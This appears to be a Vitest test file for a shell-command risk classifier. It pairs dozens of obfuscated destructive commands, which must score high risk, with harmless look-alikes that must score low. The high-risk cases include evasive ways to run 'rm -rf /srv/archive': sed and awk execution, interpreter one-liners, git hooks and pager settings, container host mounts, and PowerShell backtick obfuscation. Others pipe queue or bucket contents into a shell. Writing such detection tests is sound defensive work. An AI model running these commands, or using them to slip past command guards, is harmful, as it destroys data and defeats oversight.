import { expect, it } from 'vitest'
import { judge } from '../../scripts/variants/check-variants.ts'
import { classifyEvent } from './classify-event.ts'

const SCRIPT = 'rm -rf /srv/archive'

it.each([
  `echo 's/x/rm -rf \\/srv\\/archive/e' > x.sed; sed -f x.sed a.txt`,
  `sed 's,a\\,b,${SCRIPT},e' a.txt`,
  `awk 'BEGIN{a="rm -rf "; b="/srv/archive"; system(a b)}'`,
  `awk -v c="${SCRIPT}" 'BEGIN{system(c)}'`,
  `bash /dev/fd/3 3<<<'${SCRIPT}'`,
  `exec 3<<<'${SCRIPT}'; bash <&3`,
  `pwsh -File <(echo 'Remove-Item -Recurse -Force /srv/archive')`,
  `IFS= read -r c <<< '${SCRIPT}'; $c`,
  `sbcl --eval '(uiop:run-program (list "rm" "-rf" "/srv/archive"))'`,
  `guile -c '(system* "rm" "-rf" "/srv/archive")'`,
  `clojure -M -e '(clojure.java.shell/sh "rm" "-rf" "/srv/archive")'`,
  `elixir -e 'System.cmd("rm", ["-rf", "/srv/archive"])'`,
  `ocaml -e 'let _ = Unix.system ("rm -rf " ^ "/srv/archive")'`,
  `Rscript -e 'system2("rm", c("-rf", "/srv/archive"))'`,
  `groovy -e '["rm","-rf","/srv/archive"].execute()'`,
  `jshell <<< 'Runtime.getRuntime().exec(new String[]{"rm","-rf","/srv/archive"})'`,
  `emacs -Q --batch --eval '(call-process "rm" nil nil nil "-rf" "/srv/archive")'`,
  `bc <<< '!${SCRIPT}'`,
  `xargs -a <(printf '%s\\0' /srv/archive) -0 rm -rf`,
  `kubectl apply -f - <<'END'\nkind: Pod\nspec:\n  containers:\n  - image: a\n    command: ["sh", "-c", "rm -rf /h/archive"]\n    volumeMounts: [{mountPath: /h}]\n  volumes: [{hostPath: {path: /srv}}]\nEND`,
  `docker compose -f - up <<'END'\nservices: {a: {image: b, volumes: ["/srv:/s"], command: rm -rf /s/archive}}\nEND`,
  `printf -- '- hosts: all\\n  tasks:\\n  - file: {path: /srv/archive, state: absent}\\n' > a.yml && ansible-playbook a.yml`,
  `printf '${SCRIPT}' > post-checkout; cp post-checkout .git/hooks/; git checkout main`,
  `hash -p /bin/rm ls; ls -rf /srv/archive`,
  `git config core.pager '${SCRIPT}; cat' && git log`,
  `printf '#!/bin/sh\\n${SCRIPT}\\n' > .git/hooks/pre-push && git push`,
  `rm\v-rf\f/srv/archive`,
  `cmd /c rd/s/q"D:\\Archive\\old"`,
  `del,/f,/s,/q,D:\\Archive\\*.*`,
  `R\`emove-I\`tem -Rec\`urse -Fo\`rce D:\\Archive`,
  `git push origin :refs/heads/main`,
  `aws s3 cp s3://drop/a.sh /tmp/a.sh && bash /tmp/a.sh`,
  `az storage blob download -c drop -n a.py -f /tmp/a.py && python3 /tmp/a.py`,
  `kcat -C -b queue.example:9092 -t jobs -e | sh`,
  `rabbitmqadmin get queue=jobs | jq -r '.[0].payload' | bash`,
  `redis-cli -h queue.example lpop jobs | sh`,
  `emacs --batch -l <(echo '(delete-directory "/srv/archive" t)')`,
  `echo 'call delete("/srv/archive", "rf")' > a.vim; vim -es -S a.vim`,
  `echo 'file(REMOVE_RECURSE "/srv/archive")' > a.cmake && cmake -P a.cmake`,
  `gs -q -sOutputFile='%pipe%${SCRIPT}' a.pdf`,
  `kak -n -e 'nop %sh{ ${SCRIPT} }'`,
  `duckdb -c '.sh ${SCRIPT}'`,
  `echo 'Remove-Item -Recurse -Force /srv/archive' | pwsh -NoProfile -Command -`,
  `CARGO_TARGET_AARCH64_APPLE_DARWIN_RUNNER='${SCRIPT}' cargo run`,
  `asdf env ruby ${SCRIPT}`,
  `pm2 start rm --name tidy -- -rf /srv/archive`,
  `echo -n 'rm -r' > a.sh; echo 'f /srv/archive' >> a.sh; sh a.sh`,
  `printf 'x:\\n\\t${SCRIPT}\\n' | make -f /dev/stdin x`,
  `ln -s /bin/busybox ./rm; ./rm -rf /srv/archive`,
  `cat /bin/rm > a; chmod +x a; ./a -rf /srv/archive`,
  `declare -n a=b; b='${SCRIPT}'; eval "$a"`,
  `a=(r m); IFS=; "\${a[*]}" -rf /srv/archive`,
  `a=([2]=/srv/archive [0]=rm [1]=-rf); "\${a[@]}"`,
  `printf -v a "\\\\$(printf %o $((57*2)))\\\\$(printf %o 109)"; $a -rf /srv/archive`,
])('text that becomes code is read, by whatever way it comes in: %s', (command) => {
  expect(judge(command).risk_level).toBe('high')
})

it.each([
  `sed 's/remove/rm -rf \\/srv/g' notes.txt`,
  `awk -v c="rm -rf /srv" '{print c}' notes.txt`,
  `elixir -e 'IO.puts("rm -rf /srv/archive")'`,
  `cat 3<<< '${SCRIPT}'`,
  `aws s3 cp ./a.sh s3://releases/a.sh && bash ./a.sh`,
  `scp build@ci.example:dist.tgz . && tar xzf dist.tgz`,
  `kcat -C -b queue.example:9092 -t jobs -e | jq .id`,
  `kubectl apply -f - <<'END'\nkind: Pod\nspec:\n  containers:\n  - image: a\n    command: ["npm", "start"]\nEND`,
  `printf '#!/bin/sh\\nnpm test\\n' > .git/hooks/pre-push && git push`,
  `git push origin :refs/heads/fix/typo-in-readme --dry-run`,
  `TEST_COMMAND='npm run lint' make check`,
  `a=(npm test); IFS=,; echo "\${a[*]}"`,
])('text that stays text is not: %s', (command) => {
  expect(judge(command).risk_level).toBe('low')
})

it.each([
  { lines: ['cd /srv', 'rm -rf archive'] },
  { steps: [{ run: `echo 'require "fileutils"; FileUtils.rm_rf("/srv/archive")' | ruby` }] },
])('lines of one session hold together, and quoted code makes a command no program text: %j', (data) => {
  expect(classifyEvent({ action: 'ci_job', data }).risk_level).toBe('high')
})
